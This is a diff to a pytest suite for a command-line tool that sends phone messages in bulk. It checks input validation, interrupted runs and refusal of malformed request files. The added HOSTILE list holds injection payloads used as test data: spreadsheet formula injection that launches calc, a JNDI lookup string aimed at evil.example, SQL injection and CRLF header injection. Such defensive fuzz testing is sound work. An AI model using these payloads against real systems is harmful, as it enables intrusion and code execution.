@@ -10,7 +10,8 @@ import httpx
 import pytest
 
 from cli import list_send
-from cli.api import FAILED, REFUSED, UNKNOWN, Api
+from cli.api import Api
+from cli.exit_codes import FAILED, REFUSED, UNKNOWN
 from cli.main import app
 from cli.people import MOST_ROWS, Unusable, message_for, read_menu, read_people
 from tests.kit.command_line import CliRunner
@@ -158,15 +159,140 @@ def test_the_same_command_again_sends_nothing_twice(tmp_path, service, breaks):
     assert set(service.called.values()) == {2}
 
 
-@pytest.mark.long
-def test_fifty_thousand_rows_with_two_interruptions(tmp_path, service):
-    content = table(people(MOST_ROWS))
-    for breaks in (["after"] * 3 + [""] * 100 + ["killed"], [""] * 333 + ["killed"]):
+HOSTILE = [
+    '=HYPERLINK("https://evil.example";"x")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd",
+    "{{to}} {{order}} {{{{order}}}}",
+    "%00%0d%0aHost: evil.example",
+    "../../{{to}}?x=1#@evil.example/",
+    "\"quoted, twice\"; and 'once'",
+    "</speak><break time='9s'/>",
+    "\u202egnirts desrever\u202c",
+    "\U0001f600\u0301 \u0130\u0131 \u0149",
+    "' OR 1=1 --",
+    "${jndi:ldap://evil.example/a}",
+    "x" * 256,
+]
+WRONG = [
+    (("", "7"), ["phone"]),
+    (("+380", " \t "), ["Order"]),
+    (("+380", "x" * 257), ["Order"]),
+    (("+380", "one\r\ntwo"), ["Order"]),
+    (("+380", "\x1b[2J"), ["Order"]),
+    (("+380",), [""]),
+    (("+380", "7", "8"), [""]),
+    (("\u0660\u0661", "7"), []),
+    (("0671234567", "7"), []),
+]
+"""Cells, and the columns in which the table alone shows that they are wrong; [] is found by the service."""
+
+
+def hostile(count):
+    """Rows whose cells are as bad as they can be and still right."""
+    return [(f"+38067{number:07}", f"{number} {HOSTILE[number % len(HOSTILE)]}"[:256]) for number in range(count)]
+
+
+def hold_a_hostile_table(tmp_path, service, count):
+    """Every wrong cell is named and no other, nothing is sent; then one call a row, whatever interrupts the command."""
+    for at_once in (True, False):  # what the table shows, and what only the service finds
+        rows: list[Any] = hostile(count)
+        expected = []
+        for turn, (cells, columns) in enumerate(one for one in WRONG if bool(one[1]) == at_once):
+            for number in range(turn, count, count // 7 + turn):
+                rows[number] = tuple("" if cell is None else cell for cell in cells)
+                expected = [one for one in expected if one[0] != number + 2]
+                expected += [(number + 2, column) for column in columns or ["phone"]]
+        told = run(tmp_path, table(rows), "--yes", "--json")
+        assert told.exit_code == REFUSED
+        found = [(one["row"], one["column"]) for one in json.loads(told.stdout)["wrong"]]
+        assert sorted(found) == sorted(expected)
+        assert (len(found) > 10, service.posts) == (True, 0)
+    content, parts = table(hostile(count)), -(-count // 100)
+    for breaks in (["after"] * 3 + [""] * (parts // 3) + ["killed"], [""] * (parts * 2 // 3) + ["killed"]):
         service.breaks = breaks
         assert run(tmp_path, content, "--yes").exit_code == UNKNOWN
-    assert run(tmp_path, content, "--yes").exit_code == 0
-    assert len(service.called) == MOST_ROWS
+    told = run(tmp_path, content, "--yes", "--json")
+    assert (told.exit_code, json.loads(told.stdout)["sent"]) == (0, count)
+    assert service.called == {(to, f"Your order {order}."): 1 for to, order in hostile(count)}
+    return told
+
+
+def test_hostile_cells_are_reported_exactly_and_each_right_row_is_one_call(tmp_path, service):
+    hold_a_hostile_table(tmp_path, service, 500)
+
+
+@pytest.mark.long
+@pytest.mark.timeout(900)
+def test_fifty_thousand_rows_with_two_interruptions(tmp_path, service):
+    hold_a_hostile_table(tmp_path, service, MOST_ROWS)
+
+
+# ------------------------------------------------------------------- a file of its own
+def request(count, **envelope):
+    said = {"text": "Good morning.", "language": "en-GB"}
+    one = {**MESSAGE, "menu": [{"say": said, "dtmfActions": {}}]}
+    return {**envelope, "messages": [{**one, "to": f"+38067{number:07}"} for number in range(count)]}
+
+
+def run_file(tmp_path, given, *options):
+    (tmp_path / "request.json").write_text(given if isinstance(given, str) else json.dumps(given), encoding="utf-8")
+    file = str(tmp_path / "request.json")
+    return CliRunner().invoke(app, ["list", "send", file, "--url", "https://api.example", *options])
+
+
+def test_the_messages_of_a_file_are_sent_as_they_stand_and_once(tmp_path, service):
+    given = request(230, statusUrl="https://shop.example/s")
+    service.breaks = ["", "killed"]
+    assert run_file(tmp_path, given, "--yes").exit_code == UNKNOWN
+    told = run_file(tmp_path, given, "--yes", "--json")
+    assert (told.exit_code, json.loads(told.stdout)["sent"]) == (0, 230)
     assert set(service.called.values()) == {1}
+    sent = [json.loads(content) for content, _ in service.answers.values()]
+    assert [one for part in sent for one in part["messages"]] == given["messages"]
+    assert {part["statusUrl"] for part in sent} == {"https://shop.example/s"}
+    # One message by itself is a file too.
+    assert run_file(tmp_path, given["messages"][0], "--yes").exit_code == 0
+
+
+def test_what_is_wrong_with_a_file_is_told_by_the_number_of_its_message(tmp_path, service):
+    given = request(230)
+    given["messages"][150]["to"] = "0671234567"
+    told = run_file(tmp_path, given, "--yes")
+    assert told.exit_code == REFUSED
+    assert "message 151: to must be a phone number" in told.stderr
+    assert "1 message is wrong; nothing was sent" in told.stderr
+    assert service.posts == 0
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        "{",
+        "[]",
+        "{}x",
+        '{"messages": []}',
+        '{"messages": [5]}',
+        '{"messages": [{"text": "\\ud800"}]}',
+        '{"messages": [{"ttl": NaN}]}',
+        "[" * 200_000,
+        '{"menu": [{"say": {"text": "{{order}}"}}]}',
+    ],
+)
+def test_a_file_that_cannot_be_sent_is_refused_before_anything(tmp_path, service, given):
+    told = run_file(tmp_path, given, "--yes")
+    assert (told.exit_code, service.checks) == (2, 0)
+
+
+def test_a_map_needs_a_table(tmp_path, service):
+    assert run_file(tmp_path, request(1), "--yes", "--map", "to=phone").exit_code == 2
+
+
+def test_hours_are_told_before_anybody_is_called(tmp_path, service):
+    windows = [{"from": "09:00", "to": "20:00", "days": ["mon", "tue"]}]
+    told = run_file(tmp_path, request(2, windows=windows, timeZone="Europe/Kyiv"))
+    assert "Phones ring mon,tue 09:00-20:00 Europe/Kyiv." in told.stderr
+    assert "Phones ring at every hour." in run_file(tmp_path, request(2)).stderr
 
 
 def test_a_refusal_on_the_way_is_told_and_leaves_the_rest(tmp_path, service):
